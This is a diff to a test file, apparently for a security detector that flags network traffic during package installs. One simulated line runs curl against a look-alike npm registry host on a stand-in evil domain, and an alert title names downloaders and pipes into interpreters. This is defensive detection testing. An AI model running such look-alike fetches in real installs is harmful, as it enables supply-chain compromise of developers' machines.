@@ -110,10 +110,11 @@ describe('install-time egress', () => {
     const curl = c.spawn(node, '/usr/bin/curl', 'curl -s https://registry.npmjs.org.evil.example/x');
     c.connect(curl, '198.51.100.7', 'registry.npmjs.org.evil.example');
     c.connect(curl, '104.16.1.35', 'registry.npmjs.org');
-    // The same look-alike fetched by node over HTTPS is a download step's shape: a low hunting alert.
+    // The same look-alike fetched by node over HTTPS is a download step's shape: a low hunting
+    // alert, raised by the correlation only because this install also ran curl.
     c.connect(node, '198.51.100.7', 'registry.npmjs.org.evil.example');
     c.connect(node, '104.16.1.35', 'registry.npmjs.org');
-    expect(await alertTitles(c)).toEqual([EXEC, EGRESS, NAMED_HUNT]);
+    expect(await alertTitles(c)).toEqual([EXEC, EGRESS, NAMED_HUNT, "Script Runtime's Named Egress in an Install That Also Ran a Downloader or a Pipe Into an Interpreter"]);
   });
 
   it('a runtime reaching an exfiltration or callback service, or a name carrying data, is high', async () => {
